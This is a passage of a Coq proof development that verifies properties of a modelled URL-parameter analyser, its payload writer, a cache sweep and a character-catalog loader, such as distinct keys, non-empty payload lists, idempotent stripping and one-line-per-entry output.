  NoDup (map fst (extract_parameters E url)).
Proof.
  unfold extract_parameters.
  destruct (urlparse_query E url) as [query|e]; [|constructor].
  destruct (negb (truthy query)); [constructor|].
  assert (∀ pairs params, NoDup (map fst params) →
            NoDup (map fst (foldl (add_pair E) params pairs))) as Hfold.
  { induction pairs as [|pair pairs IH]; intros params Hparams; [done|].
    cbn [foldl]. apply IH. unfold add_pair.
    destruct (negb (truthy pair)); [done|].
    destruct (split_name_value pair) as [[param_name value]|];
      by apply setitem_NoDup. }
  apply Hfold. constructor.
Qed.

Lemma analyze_parameter_param (url param : string) (w w' : world)
    (analysis : ParamAnalysis) :
  analyze_parameter E url param w = (Ok analysis, w') →
  param_of analysis = param.
Proof.
  intros Hrun.
  destruct (analyze_parameter_cases E url param w)
    as [(e & Hraise & _)|[[_ Hfail]|(_ & results & analysis' & Hok & _ & _
                                      & _ & _ & Hparam)]].
  - rewrite Hrun in Hraise. discriminate Hraise.
  - rewrite Hrun in Hfail. by injection Hfail as -> _.
  - rewrite Hrun in Hok. cbn in Hok. by injection Hok as <-.
Qed.

Lemma analyze_params_shape (url : string) (all params : list string)
    (results results' : list (string * list string)) (w : world) :
  (∀ param, param ∈ params → param ∈ all) →
  results_shape all results →
  fst (analyze_params E url params results w) = Ok results' →
  results_shape all results'.
Proof.
  revert results w.
  induction params as [|param rest IH]; intros results w Hsub Hresults; cbn.
  - by intros [= <-].
  - unfold bind.
    destruct (analyze_parameter E url param w) as [[analysis|e] w1] eqn:Hrun;
      [|done].
    apply IH; [intros x Hx; apply Hsub; by apply list_elem_of_further|].
    pose proof (NoDup_generate_payloads analysis) as Hnodup.
    destruct (generate_payloads analysis) as [|p payloads] eqn:Hpayloads;
      [done|].
    destruct Hresults as [Hkeys Hvalues]. split.
    + by apply setitem_NoDup.
    + apply setitem_Forall; [done|]. cbn.
      rewrite (analyze_parameter_param url param w w1 analysis Hrun).
      split; [apply Hsub, list_elem_of_here|done].
Qed.

End ResultProperties.

(** X14. The result of [analyze_url]: the parameter names taken from the
    URL are distinct, so each is analysed once; the keys of the result are
    distinct and among these names; and each key comes with a list of
    payloads that is not empty and has no duplicate. *)
Theorem analyze_url_result_shape (E : Env) (url : string) (w : world) :
  NoDup (map fst (extract_parameters E url))
  ∧ results_shape (map fst (extract_parameters E url))
      (fst (analyze_url E url w)).
Proof.
  split; [apply extract_parameters_NoDup|].
  unfold analyze_url.
  destruct (extract_parameters E url) as [|kv params];
    [apply results_shape_nil|].
  unfold bind, ret.
  destruct (analyze_params E url (map fst (kv :: params)) [] w)
    as [[results|e] w'] eqn:Hrun; cbn [fst]; [|apply results_shape_nil].
  eapply analyze_params_shape;
    [|apply results_shape_nil|by rewrite Hrun]. done.
Qed.

(** ** The sweep of the cache *)

(** X15. With a clock that does not go back, [clear_expired] is not
    observable through [get]: after it every key gets the answer it would
    have got without it. *)
Theorem clear_expired_transparent (self : CacheManager.t) (key : string)
    (w : world) :
  (clock w (tick w) <= clock w (S (tick w)))%Q →
  fst (fst (CacheManager.get (fst (CacheManager.clear_expired self w)) key
              (snd (CacheManager.clear_expired self w))))
  = fst (fst (CacheManager.get self key
                (snd (CacheManager.clear_expired self w)))).
Proof.
  intros Hclock.
  change (CacheManager.clear_expired self w)
    with (CacheManager.Cache
            (filter (λ kv, CacheManager.fresh self (clock w (tick w)) kv.2.2 = true)
               (CacheManager.cache self))
            (CacheManager.ttl self),
          World (clock w) (S (tick w))).
  cbn [fst snd].
  destruct (CacheManager.cache self !! key) as [[result timestamp]|] eqn:Hkey.
  - destruct (CacheManager.fresh self (clock w (tick w)) timestamp) eqn:Hfresh.
    + assert (∀ cleared : CacheManager.t,
                CacheManager.cache cleared !! key = Some (result, timestamp) →
                CacheManager.ttl cleared = CacheManager.ttl self →
                fst (fst (CacheManager.get cleared key
                            (World (clock w) (S (tick w)))))
                = fst (fst (CacheManager.get self key
                              (World (clock w) (S (tick w)))))) as Hsame.
      { intros cleared Hcleared Httl. unfold CacheManager.get.
        rewrite Hcleared, Hkey. unfold bind, time_time, ret, CacheManager.fresh.
        rewrite Httl. by destruct (Qle_bool _ _). }
      apply Hsame; [|done]. cbn [CacheManager.cache].
      by apply map_lookup_filter_Some_2.
    + rewrite get_absent.
      2:{ cbn [CacheManager.cache]. apply map_lookup_filter_None_2. right.
          intros v Hv. rewrite Hkey in Hv. injection Hv as <-. cbn.
          by rewrite Hfresh. }
      apply fresh_false in Hfresh.
      rewrite (get_stale self key result timestamp); [done|done|].
      cbn [clock tick]. eapply Qlt_le_trans; [exact Hfresh|].
      apply Qplus_le_l. exact Hclock.
  - rewrite !get_absent; [done|done|].
    cbn [CacheManager.cache]. apply map_lookup_filter_None_2. by left.
Qed.

Lemma clear_expired_transparent_witness :
  fst (fst (CacheManager.get
              (fst (CacheManager.clear_expired one_entry_cache still_world))
              "k" (snd (CacheManager.clear_expired one_entry_cache still_world))))
  = fst (fst (CacheManager.get one_entry_cache "k"
                (snd (CacheManager.clear_expired one_entry_cache still_world)))).
Proof.
  apply (clear_expired_transparent one_entry_cache "k" still_world).
  cbn. apply Qle_refl.
Defined.

(** ** Strings *)

Lemma join_chars (s : string) : join (chars s) = s.
Proof.
  induction s as [|b s IH]; [done|].
  cbn [chars]. destruct (chars s) as [|c cs]; cbn in *.
  - by rewrite <- IH.
  - destruct (starts_with_continuation c); cbn; by rewrite <- IH.
Qed.

Lemma chars_nil_inv (s : string) : chars s = [] → s = "".
Proof. intros H. by rewrite <- (join_chars s), H. Qed.

Lemma chars_head (s : string) (c : string) (cs : list string) :
  chars s = c :: cs →
  starts_with_continuation c = starts_with_continuation s ∧ c ≠ "".
Proof.
  destruct s as [|b s]; [done|]. cbn [chars].
  destruct (chars s) as [|c' cs'].
  - by intros [= <- <-].
  - destruct (starts_with_continuation c'); by intros [= <- <-].
Qed.

Lemma chars_app (s t : string) :
  starts_with_continuation t = false →
  chars (s +:+ t) = chars s ++ chars t.
Proof.
  intros Ht. induction s as [|b s IH]; [done|].
  change (String b s +:+ t) with (String b (s +:+ t)).
  cbn [chars]. rewrite IH.
  destruct (chars s) as [|c cs] eqn:Hs;
    [|cbn [app]; by destruct (starts_with_continuation c)].
  cbn [app]. destruct (chars t) as [|c cs] eqn:Hchars; [done|].
  apply chars_head in Hchars as [-> _]. by rewrite Ht.
Qed.

Lemma chars_all_continuation (b : ascii) (t : string) :
  all_continuation t = true → chars (String b t) = [String b t].
Proof.
  revert b. induction t as [|b' t IH]; intros b; [done|].
  cbn [all_continuation]. intros [Hb Ht]%andb_prop.
  cbn [chars]. specialize (IH b' Ht). cbn [chars] in IH. rewrite IH.
  cbn [starts_with_continuation]. by rewrite Hb.
Qed.

Lemma chars_code_point (c : string) : code_point c = true → chars c = [c].
Proof. destruct c as [|b t]; [done|]. apply chars_all_continuation. Qed.

Lemma chars_str_like (s : string) : str_like (chars s).
Proof.
  induction s as [|b s [IH1 IH2]]; [by split|].
  cbn [chars]. destruct (chars s) as [|c cs] eqn:Hs.
  - split; by repeat constructor.
  - apply Forall_cons in IH1 as [Hc Hcs]. cbn [tail] in IH2.
    destruct (starts_with_continuation c) eqn:Hcont.
    + split; [|done]. constructor; [|done].
      destruct c as [|b' t]; [done|]. cbn in *. by rewrite Hcont, Hc.
    + split; [by repeat constructor|]. cbn [tail]. by constructor.
Qed.

Lemma join_starts (l : list string) :
  Forall (λ c, code_point c = true) l →
  starts_with_continuation (join l)
  = match l with c :: _ => starts_with_continuation c | [] => false end.
Proof. intros [|[|b t] l' Hc Hl]; done. Qed.

Lemma chars_join (l : list string) : str_like l → chars (join l) = l.
Proof.
  induction l as [|c l IH]; [done|]. intros [Hunits Htail].
  apply Forall_cons in Hunits as [Hc Hl]. cbn [tail] in Htail.
  assert (str_like l) as Hlike.
  { split; [done|]. destruct Htail; [constructor|done]. }
  change (join (c :: l)) with (c +:+ join l).
  rewrite chars_app.
  - by rewrite chars_code_point, IH.
  - rewrite join_starts by done. by destruct Htail.
Qed.

Lemma str_like_app (l k : list string) : str_like (l ++ k) → str_like l ∧ str_like k.
Proof.
  intros [Hunits Htail]. apply Forall_app in Hunits as [Hl Hk].
  destruct l as [|c l].
  - by repeat split.
  - cbn [app tail] in Htail. apply Forall_app in Htail as [Hl' Hk'].
    repeat split; try done. destruct k; [done|]. cbn.
    by apply Forall_cons in Hk' as [_ ?].
Qed.

Lemma lstrip_chars_suffix (l : list string) :
  ∃ k, l = k ++ lstrip_chars l ∧ Forall (λ c, isspace c = true) k.
Proof.
  induction l as [|c l (k & Hk & Hspace)]; [by exists []|].
  cbn [lstrip_chars]. destruct (isspace c) eqn:Hc.
  - exists (c :: k). split; [cbn; by rewrite <- Hk|by constructor].
  - by exists [].
Qed.

Lemma lstrip_chars_head (l : list string) :
  match lstrip_chars l with c :: _ => isspace c = false | [] => True end.
Proof.
  induction l as [|c l IH]; [done|].
  cbn [lstrip_chars]. by destruct (isspace c) eqn:Hc.
Qed.

Lemma lstrip_chars_id (l : list string) :
  match l with c :: _ => isspace c = false | [] => True end →
  lstrip_chars l = l.
Proof. destruct l as [|c l]; [done|]. cbn. by intros ->. Qed.

Lemma strip_chars_segment (l : list string) :
  ∃ k1 k2, l = k1 ++ strip_chars l ++ k2.
Proof.
  unfold strip_chars.
  destruct (lstrip_chars_suffix l) as (k1 & Hk1 & _).
  destruct (lstrip_chars_suffix (reverse (lstrip_chars l))) as (k2 & Hk2 & _).
  exists k1, (reverse k2).
  rewrite <- reverse_app, <- Hk2, reverse_involutive. done.
Qed.

Lemma strip_chars_str_like (l : list string) : str_like l → str_like (strip_chars l).
Proof.
  intros Hl. destruct (strip_chars_segment l) as (k1 & k2 & Heq).
  rewrite Heq in Hl. apply str_like_app in Hl as [_ Hl].
  by apply str_like_app in Hl as [Hl _].
Qed.

Lemma chars_strip (s : string) : chars (strip s) = strip_chars (chars s).
Proof. apply chars_join, strip_chars_str_like, chars_str_like. Qed.

Lemma strip_chars_idemp (l : list string) : strip_chars (strip_chars l) = strip_chars l.
Proof.
  unfold strip_chars at 1.
  assert (lstrip_chars (strip_chars l) = strip_chars l) as ->.
  { apply lstrip_chars_id. unfold strip_chars.
    pose proof (lstrip_chars_head l) as Hhead.
    destruct (lstrip_chars_suffix (reverse (lstrip_chars l))) as (k & Hk & Hspace).
    apply (f_equal reverse) in Hk. rewrite reverse_involutive, reverse_app in Hk.
    destruct (reverse (lstrip_chars (reverse (lstrip_chars l)))) as [|c m]; [done|].
    rewrite Hk in Hhead. done. }
  unfold strip_chars. rewrite reverse_involutive.
  rewrite (lstrip_chars_id (lstrip_chars _)); [done|]. apply lstrip_chars_head.
Qed.

Lemma strip_idemp (s : string) : strip (strip s) = strip s.
Proof.
  unfold strip at 1. fold (strip_chars (chars (strip s))).
  rewrite chars_strip, strip_chars_idemp. done.
Qed.

Lemma append_assoc (s t u : string) : (s +:+ t) +:+ u = s +:+ (t +:+ u).
Proof.
  induction s as [|a s IH]; [done|].
  change (String a ((s +:+ t) +:+ u) = String a (s +:+ (t +:+ u))).
  by rewrite IH.
Qed.

Lemma join_app (l k : list string) : join (l ++ k) = join l +:+ join k.
Proof.
  induction l as [|c l IH]; [done|].
  change (join ((c :: l) ++ k)) with (c +:+ join (l ++ k)).
  change (join (c :: l)) with (c +:+ join l).
  by rewrite IH, append_assoc.
Qed.

(** [strip s] is a piece of [s]. *)
Lemma strip_segment (s : string) : ∃ pre post, s = pre +:+ strip s +:+ post.
Proof.
  destruct (strip_chars_segment (chars s)) as (k1 & k2 & Heq).
  exists (join k1), (join k2).
  rewrite <- (join_chars s) at 1. rewrite Heq, !join_app. done.
Qed.

Lemma no_byte_app (b : ascii) (s t : string) :
  no_byte b (s +:+ t) = no_byte b s && no_byte b t.
Proof.
  induction s as [|a s IH]; [done|].
  change (String a s +:+ t) with (String a (s +:+ t)).
  cbn [no_byte]. by rewrite IH, andb_assoc.
Qed.

Lemma no_byte_remove_byte (b : ascii) (s : string) :
  no_byte b (remove_byte b s) = true.
Proof.
  induction s as [|a s IH]; [done|]. cbn.
  destruct (Ascii.eqb a b) eqn:Ha; [done|]. cbn. by rewrite Ha.
Qed.

Lemma no_byte_remove_other (b b' : ascii) (s : string) :
  no_byte b s = true → no_byte b (remove_byte b' s) = true.
Proof.
  induction s as [|a s IH]; [done|]. cbn. intros [Ha Hs]%andb_prop.
  destruct (Ascii.eqb a b'); [by apply IH|]. cbn. by rewrite Ha, IH.
Qed.

Lemma remove_byte_id (b : ascii) (s : string) :
  no_byte b s = true → remove_byte b s = s.
Proof.
  induction s as [|a s IH]; [done|]. cbn. intros [Ha Hs]%andb_prop.
  apply negb_true_iff in Ha. by rewrite Ha, IH.
Qed.

Lemma no_byte_strip (b : ascii) (s : string) :
  no_byte b s = true → no_byte b (strip s) = true.
Proof.
  destruct (strip_segment s) as (pre & post & Heq). rewrite Heq at 1.
  rewrite !no_byte_app. intros [_ [Hs _]%andb_prop]%andb_prop. exact Hs.
Qed.

Lemma no_newline_no_byte (s : string) : no_newline s = no_byte "010" s.
Proof. induction s as [|a s IH]; [done|]. cbn. by rewrite IH. Qed.

(** What [strip] leaves begins and ends with a code point that is not white
    space. *)
Lemma strip_chars_ends (l : list string) :
  match strip_chars l with c :: _ => isspace c = false | [] => True end
  ∧ match reverse (strip_chars l) with
    | c :: _ => isspace c = false
    | [] => True
    end.
Proof.
  unfold strip_chars. rewrite reverse_involutive.
  split; [|apply lstrip_chars_head].
  pose proof (lstrip_chars_head l) as Hhead.
  destruct (lstrip_chars_suffix (reverse (lstrip_chars l))) as (k & Hk & _).
  apply (f_equal reverse) in Hk. rewrite reverse_involutive, reverse_app in Hk.
  destruct (reverse (lstrip_chars (reverse (lstrip_chars l)))) as [|c m];
    [done|].
  by rewrite Hk in Hhead.
Qed.

(** A stripped string followed by a newline is not blank. *)
Lemma strip_append_LF (q : string) :
  strip q = q → q ≠ "" → strip (q +:+ LF) = q.
Proof.
  intros Hstrip Hq.
  assert (strip_chars (chars q) = chars q) as Hfix
    by (by rewrite <- chars_strip, Hstrip).
  destruct (strip_chars_ends (chars q)) as [Hhead Hlast].
  rewrite Hfix in Hhead, Hlast.
  unfold strip. rewrite chars_app by done.
  change (chars LF) with [LF].
  destruct (chars q) as [|c m] eqn:Hchars;
    [by apply chars_nil_inv in Hchars|].
  cbn [app lstrip_chars]. rewrite Hhead.
  change (c :: m ++ [LF]) with ((c :: m) ++ [LF]).
  rewrite reverse_app. change (reverse [LF]) with [LF].
  cbn [app lstrip_chars]. change (isspace LF) with true. cbv iota.
  destruct (reverse (c :: m)) as [|c' m'] eqn:Hrev.
  - by apply (f_equal reverse) in Hrev; rewrite reverse_involutive in Hrev.
  - cbn [lstrip_chars]. rewrite Hlast, <- Hrev, reverse_involutive.
    by rewrite <- Hchars, join_chars.
Qed.

(** ** The writer on any set *)

(** What the writer writes for an entry makes one line. *)
Lemma stripped_payload_line_safe (p : string) :
  truthy (stripped_payload p) = true → line_safe (stripped_payload p) = true.
Proof.
  intros Htruthy.
  assert (no_byte "010" (stripped_payload p) = true) as Hlf.
  { apply no_byte_strip, no_byte_remove_other, no_byte_remove_byte. }
  assert (no_byte "013" (stripped_payload p) = true) as Hcr.
  { apply no_byte_strip, no_byte_remove_byte. }
  assert (stripped_payload (stripped_payload p) = stripped_payload p) as Hfix.
  { unfold stripped_payload at 1.
    rewrite (remove_byte_id "010"), (remove_byte_id "013") by done.
    apply strip_idemp. }
  apply line_safe_spec. repeat split; try done.
  - by rewrite no_newline_no_byte.
  - rewrite strip_append_LF; [done|apply strip_idemp|].
    unfold truthy in Htruthy. apply negb_true_iff in Htruthy.
    by apply String.eqb_neq.
Qed.

Lemma written_payloads_lines (l : list string) :
  flat_map
    (λ payload,
       if truthy (stripped_payload payload)
       then [stripped_payload payload +:+ LF] else [])
    l
  = lines_of (filter (λ q, truthy q = true) (map stripped_payload l)).
Proof.
  induction l as [|p l IH]; [done|].
  cbn [flat_map map]. rewrite filter_cons, IH.
  destruct (truthy (stripped_payload p)) eqn:Hp.
  - by rewrite decide_True.
  - by rewrite decide_False.
Qed.

Lemma written_payloads_line_safe (unique_payloads : gset string) :
  Forall (λ q, line_safe q = true) (written_payloads unique_payloads).
Proof.
  unfold written_payloads. apply Forall_forall. intros q Hq.
  apply list_elem_of_filter in Hq as [Hq Hin].
  apply list_elem_of_fmap in Hin as (p & -> & _).
  by apply stripped_payload_line_safe.
Qed.

(** X16. The writer on any set of strings, those of the generators or
    others: the file has one line for each string of which something is
    left after stripping, in the order of the sorted set; no line has a
    carriage return or a second newline, begins or ends with white space or
    is blank; and [remove_empty_lines] leaves the file as it was written. *)
Theorem writer_lines_of_any_set (unique_payloads : gset string) :
  readlines (written unique_payloads)
  = lines_of (written_payloads unique_payloads)
  ∧ Forall (λ q, line_safe q = true ∧ no_byte "013" q = true)
      (written_payloads unique_payloads)
  ∧ remove_empty_lines (written unique_payloads) = written unique_payloads.
Proof.
  pose proof (written_payloads_line_safe unique_payloads) as Hsafe.
  unfold written. rewrite written_payloads_lines.
  fold (written_payloads unique_payloads).
  split; [by apply readlines_lines_of|].
  split; [|by apply remove_empty_lines_lines_of].
  apply Forall_forall. intros q Hq. split.
  - rewrite Forall_forall in Hsafe. by apply Hsafe.
  - unfold written_payloads in Hq.
    apply list_elem_of_filter in Hq as [_ Hin].
    apply list_elem_of_fmap in Hin as (p & -> & _).
    apply no_byte_strip, no_byte_remove_byte.
Qed.

(** ** The catalog read from a file *)

Lemma getitem_elem {V} (d : list (string * V)) (key : string) (v : V) :
  getitem d key = Ok v → (key, v) ∈ d.
Proof.
  induction d as [|[k v'] d IH]; [done|]. cbn.
  destruct (String.eqb_spec k key) as [->|Hne].
  - intros [= ->]. apply list_elem_of_here.
  - intros H. apply list_elem_of_further. by apply IH.
Qed.

Lemma getitem_key {V} (d : list (string * V)) (key : string) :
  key ∈ map fst d ↔ ∃ v, getitem d key = Ok v.
Proof.
  induction d as [|[k v'] d IH]; cbn.
  - split; [intros H; by apply elem_of_nil in H|by intros [v H]].
  - rewrite elem_of_cons.
    destruct (String.eqb_spec k key) as [->|Hne].
    + split; [by eexists|by left].
    + rewrite <- IH. split; [intros [?|?]; [congruence|done]|by right].
Qed.

Lemma getitem_no_key {V} (d : list (string * V)) (key : string) :
  key ∉ map fst d → getitem d key = Raise (KeyError key).
Proof.
  induction d as [|[k v'] d IH]; cbn; [done|].
  rewrite elem_of_cons. intros Hnot.
  destruct (String.eqb_spec k key) as [->|Hne]; [destruct Hnot; by left|].
  apply IH. intros ?. apply Hnot. by right.
Qed.

Lemma getitem_setitem {V} (d : list (string * V)) (key : string) (v : V) :
  getitem (setitem d key v) key = Ok v.
Proof.
  induction d as [|[k v'] d IH]; cbn.
  - by rewrite String.eqb_refl.
  - destruct (String.eqb_spec k key) as [->|Hne]; cbn.
    + by rewrite String.eqb_refl.
    + destruct (String.eqb_spec k key); [done|]. exact IH.
Qed.

Lemma setitem_key_in {V} (d : list (string * V)) (key key' : string) (v : V) :
  key' ∈ map fst (setitem d key v) ↔ key' ∈ map fst d ∨ key' = key.
Proof.
  rewrite setitem_keys. case_bool_decide as Hin.
  - split; [by left|]. by intros [?| ->].
  - by rewrite elem_of_app, list_elem_of_singleton.
Qed.

Lemma setitem_not_nil {V} (d : list (string * V)) (key : string) (v : V) :
  setitem d key v ≠ [].
Proof. destruct d as [|[k v'] d]; cbn; [done|]. by destruct (String.eqb k key). Qed.

(** A header line is neither empty nor a comment. *)
Lemma is_header_not_skipped (line : string) :
  is_header line = true →
  negb (truthy line) || startswith "#" line = false.
Proof.
  unfold is_header, startswith. destruct line as [|a l]; [done|].
  cbn [String.prefix]. destruct (ascii_dec "[" a) as [<-|Hne]; [done|].
  by rewrite andb_false_l.
Qed.

Section LoaderProperties.

Variable lower : string → string.
Variable open_lines : string → result (list string).

(** The inner loop changes the value of the current group and no key. *)
Lemma add_chars_keys (line : list string)
    (custom_chars custom_chars' : list (string * string)) (current_group : string)
    (seen : gset string) :
  add_chars custom_chars current_group seen line = Ok custom_chars' →
  map fst custom_chars' = map fst custom_chars.
Proof.
  revert custom_chars seen.
  induction line as [|char rest IH]; intros custom_chars seen; cbn [add_chars].
  - by intros [= <-].
  - case_bool_decide as Hin; [apply IH|].
    destruct (getitem custom_chars current_group) as [value|e] eqn:Hvalue;
      [|done].
    cbn. intros Hrun. apply IH in Hrun. rewrite Hrun, setitem_keys.
    rewrite bool_decide_eq_true_2; [done|]. apply getitem_key. by exists value.
Qed.

Lemma add_chars_returns (line : list string)
    (custom_chars : list (string * string)) (current_group : string)
    (seen : gset string) :
  current_group ∈ map fst custom_chars →
  ∃ custom_chars', add_chars custom_chars current_group seen line = Ok custom_chars'.
Proof.
  revert custom_chars seen.
  induction line as [|char rest IH]; intros custom_chars seen Hkey;
    cbn [add_chars]; [by eexists|].
  case_bool_decide as Hin; [by apply IH|].
  destruct (proj1 (getitem_key custom_chars current_group) Hkey)
    as [value ->].
  cbn. apply IH. apply setitem_key_in. by right.
Qed.

(** The loop over the lines never raises: the current group is a key. *)
Lemma load_lines_returns (lines : list string)
    (custom_chars : list (string * string)) (current_group : option string) :
  (∀ group, current_group = Some group → group ∈ map fst custom_chars) →
  ∃ custom_chars', load_lines lower lines custom_chars current_group = Ok custom_chars'.
Proof.
  revert custom_chars current_group.
  induction lines as [|line rest IH]; intros custom_chars current_group Hkey;
    cbn [load_lines]; cbv zeta; [by eexists|].
  destruct (negb (truthy (strip line)) || startswith "#" (strip line));
    [by apply IH|].
  destruct (is_header (strip line)).
  { apply IH. intros group [= <-]. apply setitem_key_in. by right. }
  destruct current_group as [group|]; [|by apply IH].
  destruct (truthy group); [|by apply IH].
  destruct (proj1 (getitem_key custom_chars group) (Hkey group eq_refl))
    as [value ->].
  cbn.
  destruct (add_chars_returns (chars (strip line)) custom_chars group
              (list_to_set (chars value)) (Hkey group eq_refl))
    as [custom_chars1 Hrun].
  rewrite Hrun. cbn. apply IH. intros group' [= <-].
  rewrite (add_chars_keys _ _ _ _ _ Hrun). by apply Hkey.
Qed.

Lemma group_ok_append (group value char : string) :
  group_ok (group, value) → group ≠ "" →
  code_point char = true → starts_with_continuation char = false →
  char ∉ chars value →
  group_ok (group, value +:+ char).
Proof.
  intros (Hnodup & Hstart & _) Hgroup Hchar Hcont Hnew. split; [|split].
  - cbn [snd] in *. rewrite chars_app, (chars_code_point char) by done.
    apply NoDup_app. split; [done|]. split; [|apply NoDup_singleton].
    intros c Hc Hc'. apply list_elem_of_singleton in Hc'. by subst c.
  - cbn [snd] in *. destruct value as [|a value]; [exact Hcont|exact Hstart].
  - done.
Qed.

Lemma add_chars_ok (line : list string)
    (custom_chars custom_chars' : list (string * string)) (current_group : string)
    (seen : gset string) :
  add_chars custom_chars current_group seen line = Ok custom_chars' →
  catalog_ok custom_chars → current_group ≠ "" →
  (∀ value, getitem custom_chars current_group = Ok value →
            seen = list_to_set (chars value)) →
  Forall (λ c, code_point c = true ∧ starts_with_continuation c = false) line →
  catalog_ok custom_chars'.
Proof.
  intros Hrun Hok Hgroup Hseen Hline.
  revert custom_chars seen Hrun Hok Hseen.
  induction Hline as [|char rest [Hchar Hcont] Hrest IH];
    intros custom_chars seen; cbn [add_chars].
  - by intros [= <-].
  - case_bool_decide as Hin; [apply IH|].
    destruct (getitem custom_chars current_group) as [value|e] eqn:Hvalue;
      [|done].
    cbn. intros Hrun [Hkeys Hgroups] Hseen.
    assert (group_ok (current_group, value)) as Hgv.
    { rewrite Forall_forall in Hgroups.
      apply (Hgroups (current_group, value)). by apply getitem_elem. }
    rewrite (Hseen value eq_refl), elem_of_list_to_set in Hin.
    apply (IH _ _ Hrun).
    + split; [by apply setitem_NoDup|].
      apply setitem_Forall; [done|]. by apply group_ok_append.
    + intros value'. rewrite getitem_setitem. intros [= <-].
      destruct Hgv as (_ & Hstart & _).
      rewrite chars_app, (chars_code_point char) by done.
      rewrite (Hseen value eq_refl), list_to_set_app_L. cbn [list_to_set].
      rewrite (right_id_L ∅ (∪)). apply (comm_L (∪)).
Qed.

(** The code points of a stripped line. *)
Lemma chars_strip_code_points (line : string) :
  starts_with_continuation line = false →
  Forall (λ c, code_point c = true ∧ starts_with_continuation c = false)
    (chars (strip line)).
Proof.
  intros Hline. rewrite chars_strip.
  assert (Forall (λ c, code_point c = true ∧ starts_with_continuation c = false)
            (chars line)) as Hall.
  { destruct (chars_str_like line) as [Hunits Htail].
    destruct (chars line) as [|c cs] eqn:Hchars; [constructor|].
    apply chars_head in Hchars as [Hc _].
    apply Forall_cons in Hunits as [Hu Hus]. cbn [tail] in Htail.
    constructor; [split; [done|by rewrite Hc]|].
    apply Forall_forall. intros c' Hc'. rewrite Forall_forall in Hus, Htail.
    split; auto. }
  destruct (strip_chars_segment (chars line)) as (k1 & k2 & Heq).
  rewrite Heq in Hall. apply Forall_app in Hall as [_ Hall].
  by apply Forall_app in Hall as [Hall _].
Qed.

Lemma load_lines_ok (lines : list string)
    (custom_chars custom_chars' : list (string * string))
    (current_group : option string) :
  load_lines lower lines custom_chars current_group = Ok custom_chars' →
  Forall (λ line, starts_with_continuation line = false) lines →
  catalog_ok custom_chars →
  catalog_ok custom_chars'.
Proof.
  intros Hrun Hlines. revert custom_chars current_group Hrun.
  induction Hlines as [|line rest Hline Hrest IH];
    intros custom_chars current_group; cbn [load_lines]; cbv zeta.
  - by intros [= <-].
  - destruct (negb (truthy (strip line)) || startswith "#" (strip line));
      [apply IH|].
    destruct (is_header (strip line)).
    { intros Hrun [Hkeys Hgroups]. apply (IH _ _ Hrun).
      split; [by apply setitem_NoDup|].
      apply setitem_Forall; [done|]. split; [constructor|done]. }
    destruct current_group as [group|]; [|apply IH].
    destruct (truthy group) eqn:Hgroup; [|apply IH].
    destruct (getitem custom_chars group) as [value|e] eqn:Hvalue; [|done].
    cbn.
    destruct (add_chars custom_chars group (list_to_set (chars value))
                (chars (strip line))) as [custom_chars1|e] eqn:Hadd; [|done].
    cbn. intros Hrun Hok. apply (IH _ _ Hrun).
    apply (add_chars_ok _ _ _ _ _ Hadd); [done| | |].
    + intros ->. discriminate Hgroup.
    + intros value'. rewrite Hvalue. by intros [= <-].
    + by apply chars_strip_code_points.
Qed.

(** Without a header nothing is stored. *)
Lemma load_lines_headless (lines : list string) :
  Forall (λ line, is_header (strip line) = false) lines →
  load_lines lower lines [] None = Ok [].
Proof.
  induction 1 as [|line rest Hline Hrest IH]; [done|].
  cbn [load_lines]; cbv zeta. rewrite Hline.
  by destruct (negb (truthy (strip line)) || startswith "#" (strip line)).
Qed.

(** The keys are the names of the headers. *)
Lemma load_lines_keys (P : string → Prop) (lines : list string)
    (custom_chars custom_chars' : list (string * string))
    (current_group : option string) :
  load_lines lower lines custom_chars current_group = Ok custom_chars' →
  Forall (λ line, is_header (strip line) = true →
                  P (header_name lower (strip line))) lines →
  Forall P (map fst custom_chars) →
  Forall P (map fst custom_chars').
Proof.
  intros Hrun Hlines. revert custom_chars current_group Hrun.
  induction Hlines as [|line rest Hline Hrest IH];
    intros custom_chars current_group; cbn [load_lines]; cbv zeta.
  - by intros [= <-].
  - destruct (negb (truthy (strip line)) || startswith "#" (strip line));
      [apply IH|].
    destruct (is_header (strip line)).
    { intros Hrun Hkeys. apply (IH _ _ Hrun).
      apply Forall_forall. intros key Hkey.
      apply setitem_key_in in Hkey as [Hkey| ->]; [|by apply Hline].
      rewrite Forall_forall in Hkeys. by apply Hkeys. }
    destruct current_group as [group|]; [|apply IH].
    destruct (truthy group); [|apply IH].
    destruct (getitem custom_chars group) as [value|e]; [|done].
    cbn.
    destruct (add_chars custom_chars group (list_to_set (chars value))
                (chars (strip line))) as [custom_chars1|e] eqn:Hadd; [|done].
    cbn. intros Hrun Hkeys. apply (IH _ _ Hrun).
    by rewrite (add_chars_keys _ _ _ _ _ Hadd).
Qed.

(** A header makes the catalog non-empty, and it stays so. *)
Lemma load_lines_not_nil (lines : list string)
    (custom_chars custom_chars' : list (string * string))
    (current_group : option string) :
  load_lines lower lines custom_chars current_group = Ok custom_chars' →
  custom_chars ≠ [] ∨ Exists (λ line, is_header (strip line) = true) lines →
  custom_chars' ≠ [].
Proof.
  revert custom_chars current_group.
  induction lines as [|line rest IH]; intros custom_chars current_group;
    cbn [load_lines]; cbv zeta.
  - intros [= <-] [H|H]; [done|]. by apply Exists_nil in H.
  - assert (is_header (strip line) = false →
            custom_chars ≠ []
            ∨ Exists (λ line, is_header (strip line) = true) (line :: rest) →
            custom_chars ≠ []
            ∨ Exists (λ line, is_header (strip line) = true) rest) as Hnext.
    { intros Hline [H|H]; [by left|]. right.
      apply Exists_cons in H as [H|H]; [congruence|done]. }
    destruct (is_header (strip line)) eqn:Hheader.
    + destruct (negb (truthy (strip line)) || startswith "#" (strip line)) eqn:Hskip.
      * by rewrite (is_header_not_skipped _ Hheader) in Hskip.
      * intros Hrun _. apply (IH _ _ Hrun). left. apply setitem_not_nil.
    + specialize (Hnext eq_refl).
      destruct (negb (truthy (strip line)) || startswith "#" (strip line));
        [intros Hrun H; by apply (IH _ _ Hrun), Hnext|].
      destruct current_group as [group|];
        [|intros Hrun H; by apply (IH _ _ Hrun), Hnext].
      destruct (truthy group);
        [|intros Hrun H; by apply (IH _ _ Hrun), Hnext].
      destruct (getitem custom_chars group) as [value|e] eqn:Hvalue; [|done].
      cbn.
      destruct (add_chars custom_chars group (list_to_set (chars value))
                  (chars (strip line))) as [custom_chars1|e] eqn:Hadd; [|done].
      cbn. intros Hrun H. apply (IH _ _ Hrun). left.
      apply add_chars_keys in Hadd. apply getitem_elem in Hvalue.
      destruct custom_chars; [by apply elem_of_nil in Hvalue|].
      by destruct custom_chars1.
Qed.

End LoaderProperties.

